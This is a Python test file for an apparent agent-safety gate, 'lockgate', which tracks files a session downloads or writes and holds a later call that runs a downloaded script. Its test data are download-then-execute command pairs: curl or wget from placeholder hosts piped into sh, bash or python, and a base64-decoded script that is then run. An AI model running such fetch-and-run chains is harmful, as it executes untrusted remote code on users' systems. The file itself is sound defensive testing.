"""What a session remembers of its files: downloads, and what it wrote."""

from __future__ import annotations

import pytest

from lockgate.core.ruling.effects.activity import (
    MAX_PATHS,
    MAX_TEXT,
    MAX_TEXTS,
    NO_ACTIVITY,
    Activity,
    Change,
    Content,
)
from lockgate.core.ruling.effects.effect import effect
from lockgate.core.ruling.effects.effects_of_call import effects_of
from lockgate.core.ruling.effects.project import Project
from lockgate.core.vocabulary import ToolCall
from lockgate.gate.gate import Gate

PROJECT = Project(root="/srv/app", folder="/srv/app", home="/home/ann")


def kinds_after(first: ToolCall, second: str) -> list[str]:
    activity = NO_ACTIVITY.after(effects_of(first, PROJECT))
    return [each.kind for each in effects_of(ToolCall("Bash", {"command": second}), PROJECT, activity)]


@pytest.mark.parametrize(
    ("first", "second"),
    [
        ("curl -s https://get.example/x.sh -o /tmp/x.sh", "sh /tmp/x.sh"),
        ("curl -sO https://get.example/x.sh", "bash x.sh"),
        ("curl -s https://get.example/x.sh > /tmp/x.sh", "chmod +x /tmp/x.sh && /tmp/x.sh"),
        ("wget https://get.example/x.sh", "sh ./x.sh"),
        ("wget -q -O tools/x.py https://get.example/x.py", "python tools/x.py"),
        ("wget -P /tmp https://get.example/x.sh", "sh /tmp/x.sh"),
        ("echo bHMK | base64 -d > /tmp/x.sh", "sh /tmp/x.sh"),
    ],
)
def test_a_download_that_a_later_call_runs_is_a_run_of_a_download(first: str, second: str) -> None:
    assert "runs-download" in kinds_after(ToolCall("Bash", {"command": first}), second)


def test_the_file_of_a_tool_that_downloads_counts_too() -> None:
    call = ToolCall("download_file", {"url": "https://get.example/x.sh", "path": "/tmp/x.sh"})
    assert "runs-download" in kinds_after(call, "sh /tmp/x.sh")


@pytest.mark.parametrize(
    ("tool", "arguments"),
    [
        ("Write", {"file_path": "/tmp/x.py", "content": "print(1)"}),
        ("Bash", {"command": "echo 'print(1)' > /tmp/x.py"}),
    ],
)
def test_a_scratch_script_that_the_session_wrote_computes(tool: str, arguments: dict[str, object]) -> None:
    assert kinds_after(ToolCall(tool, arguments), "python /tmp/x.py") == ["computes"]


def test_a_download_that_is_only_looked_at_is_no_run() -> None:
    first = ToolCall("Bash", {"command": "curl -s https://api.example/x.json -o /tmp/x.json"})
    assert "runs-download" not in kinds_after(first, "jq .name /tmp/x.json")


def test_effects_that_leave_no_file_change_nothing() -> None:
    assert NO_ACTIVITY.after([effect("looks"), effect("requests", "a.example")]) == NO_ACTIVITY


def test_past_the_limit_all_that_is_known_stays_and_the_rest_may_be_a_download() -> None:
    activity = Activity(downloaded=frozenset(f"/tmp/{at}.sh" for at in range(MAX_PATHS)))
    full = activity.after([effect("downloads-file", "/tmp/one-more.sh")])
    assert full.is_full
    assert full.downloaded == activity.downloaded
    found = effects_of(ToolCall("Bash", {"command": "sh /tmp/one-more.sh"}), PROJECT, full)
    assert [each.kind for each in found] == ["runs-download"]


def test_a_session_holds_a_download_of_one_call_that_the_next_one_runs() -> None:
    session = Gate().session(goal="Summarise the page")
    session.add("Some page about the weather, at get.example.", source="web:a")
    assert session.check("Bash", {"command": "curl -s https://docs.example/x.sh -o /tmp/x.sh"}).action == "CONTINUE"
    held = session.check("Bash", {"command": "sh /tmp/x.sh"})
    assert held.action != "CONTINUE"
    assert "runs-download" in [each.kind for each in held.effects]


def test_of_too_much_text_the_oldest_is_unknown() -> None:
    changes = [Change(f"/srv/app/{number}.py", "x" * MAX_TEXT) for number in range(MAX_TEXTS // MAX_TEXT + 1)]
    activity = NO_ACTIVITY.after([], changes)
    assert activity.find("/srv/app/0.py") == Content()
    assert activity.find("/srv/app/1.py") == Content("x" * MAX_TEXT)


def test_of_too_many_files_any_may_be_one() -> None:
    activity = NO_ACTIVITY.after([], [Change(f"/srv/app/{number}", "x") for number in range(MAX_PATHS + 1)])
    assert activity.find("/srv/app/other") == Content()


def test_a_circle_of_links_ends() -> None:
    activity = NO_ACTIVITY.after([], [Change("/a", link="/b"), Change("/b", link="/a")])
    assert activity.resolve("/a/x") in ("/a/x", "/b/x")
